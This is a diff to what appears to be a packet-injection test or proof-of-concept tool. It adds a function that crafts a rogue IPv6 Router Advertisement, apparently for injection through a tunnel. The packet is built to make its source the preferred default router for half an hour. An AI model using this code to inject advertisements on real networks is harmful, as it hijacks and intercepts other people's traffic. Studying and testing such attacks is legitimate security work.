@@ -41,6 +41,15 @@ def data_message(flags, tunnel, session, payload):
     return message[:2] + struct.pack(">H", len(message)) + message[4:] if flags & 0x4000 else message
 
 
+def router_advertisement(to):
+    """RFC 4861 §4.2, from a router that would have every packet to the internet for half an hour."""
+    source, destination = socket.inet_pton(socket.AF_INET6, "fe80::bad"), socket.inet_pton(socket.AF_INET6, to)
+    message = struct.pack(">BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0)  # 0x08: prefer me (RFC 4191)
+    pseudo_header = source + destination + struct.pack(">II", len(message), socket.IPPROTO_ICMPV6)
+    message = message[:2] + struct.pack(">H", checksum(pseudo_header + message)) + message[4:]
+    return struct.pack(">IHBB", 6 << 28, len(message), socket.IPPROTO_ICMPV6, 255) + source + destination + message
+
+
 class Listener:
     """The host inside, listening for what was injected."""
 
